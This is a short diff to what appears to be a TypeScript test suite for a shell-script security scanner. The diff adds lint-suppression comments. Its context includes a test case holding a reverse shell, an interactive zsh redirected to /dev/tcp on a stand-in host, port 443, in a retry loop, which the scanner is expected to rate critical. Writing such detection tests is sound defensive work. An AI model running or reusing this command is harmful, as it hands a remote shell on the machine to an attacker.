@@ -9,6 +9,7 @@ type Worst = Severity | 'none';
 /** `powershell -EncodedCommand` takes UTF-16LE text in base64; built here so no payload sits in the repo. */
 const enc = (command: string): string => Buffer.from(command, 'utf16le').toString('base64');
 /** Ordinary script boilerplate (the script's own folder), as most real scripts start. */
+// biome-ignore lint/suspicious/noTemplateCurlyInString: shell source handed to the scanner
 const HEAD = '#!/usr/bin/env bash\nset -euo pipefail\nHERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n';
 
 /**
@@ -27,6 +28,7 @@ const CASES: [name: string, file: string, source: string, worst: Worst][] = [
   [
     'zsh to /dev/tcp in a retry loop',
     'r.sh',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell source handed to the scanner
     'TARGET_HOST="198.51.100.77"\nwhile true; do\n  zsh -i >& "/dev/tcp/${TARGET_HOST}/443" 0>&1\n  sleep 30\ndone\n',
     'critical',
   ],
